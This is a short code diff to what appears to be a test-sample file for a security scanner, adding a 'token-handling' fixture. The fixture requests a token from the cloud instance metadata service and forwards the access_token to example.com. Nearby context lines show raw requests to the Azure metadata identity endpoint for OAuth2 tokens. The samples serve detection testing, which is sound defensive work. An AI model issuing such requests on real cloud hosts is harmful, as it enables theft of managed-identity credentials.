@@ -127,6 +127,9 @@ export const fileSamples: Readonly<Record<string, LanguageSamples>> = {
     quoted: (text) => (text.startsWith('https:') ? `GET ${text}\n` : ''),
     rules: {
       'raw-token-request': [`GET ${imds}\n`],
+      'token-handling': [
+        `GET ${imds}\n\n###\nGET https://example.com/?access_token={{t.response.body.$.access_token}}\n`,
+      ],
       ...otherIds(
         'GET http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=x&client_id=<id>\nMetadata: true\n',
         'GET http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=x&object_id=<id>\nMetadata: true\n',
